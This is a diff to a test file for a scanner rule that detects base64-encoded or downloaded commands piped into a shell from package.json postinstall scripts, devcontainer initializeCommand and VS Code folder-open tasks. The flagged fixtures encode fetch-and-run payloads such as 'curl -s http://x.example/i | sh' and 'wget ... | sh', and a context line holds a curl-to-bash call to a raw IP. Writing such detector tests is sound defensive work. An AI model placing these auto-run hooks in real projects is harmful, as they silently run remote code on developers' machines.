@@ -13,8 +13,26 @@ ruleTest(rule, {
     { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
     { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
     { name: 'prepare points core.hooksPath at .githooks holding a lint hook', files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } },
+    { name: 'base64 decoded into a file, not a shell', files: { 'package.json': '{"scripts":{"postinstall":"echo aGVsbG8gd29ybGQgZnJvbSBhIGZpeHR1cmU= | base64 -d > banner.txt"}}' } },
+    { name: 'base64 of a certificate piped to openssl', files: { '.devcontainer/devcontainer.json': '{"initializeCommand":"echo $CA_B64 | base64 -d | openssl x509 -noout -subject"}' } },
   ],
   flagged: [
+    {
+      name: 'base64 command piped into a shell: postinstall and a devcontainer initializeCommand (runs on the host)',
+      files: {
+        'package.json': `{\n "scripts": {\n  "postinstall": "echo ${Buffer.from('curl -s http://x.example/i | sh').toString('base64')} | base64 -d | sh"\n }\n}`,
+        '.devcontainer/devcontainer.json': `{\n "initializeCommand": "bash -c 'base64 --decode <<< ${Buffer.from('node -e 1; touch /tmp/x').toString('base64')} | bash'"\n}`,
+      },
+      findings: [
+        { line: 2, file: '.devcontainer/devcontainer.json', decoded: 'node -e 1; touch /tmp/x', severity: 'critical', confidence: 'high', message: /base64-encoded command through a shell/ },
+        { line: 3, file: 'package.json', decoded: 'curl -s http://x.example/i | sh', severity: 'critical', confidence: 'high', message: /base64-encoded command that pipes a download into a shell/ },
+      ],
+    },
+    {
+      name: 'sh -c "$(echo <b64> | base64 -d)" in a folder-open task',
+      files: { '.vscode/tasks.json': tasks(`sh -c "$(echo ${Buffer.from('wget -qO- http://x.example/t | sh').toString('base64')} | base64 -d)"`) },
+      findings: [{ line: 6, file: '.vscode/tasks.json', decoded: 'wget -qO- http://x.example/t | sh', severity: 'critical', confidence: 'high' }],
+    },
     {
       name: 'folderOpen task curl | bash',
       files: { '.vscode/tasks.json': tasks("curl -s 'http://203.0.113.7:1244/settings/mac?flag=8' | bash") },
